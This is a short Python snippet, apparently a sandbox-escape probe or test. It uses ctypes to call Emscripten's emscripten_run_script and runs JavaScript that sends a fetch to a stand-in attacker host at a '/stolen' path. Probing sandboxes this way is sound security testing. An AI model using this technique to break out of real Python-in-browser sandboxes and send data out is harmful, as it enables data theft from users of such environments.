# Tries Emscripten's own eval, by ctypes.
import ctypes

print("tried")
ctypes.CDLL(None).emscripten_run_script(f"fetch('{EVIL}/stolen')".encode())
await asyncio.sleep(0.3)
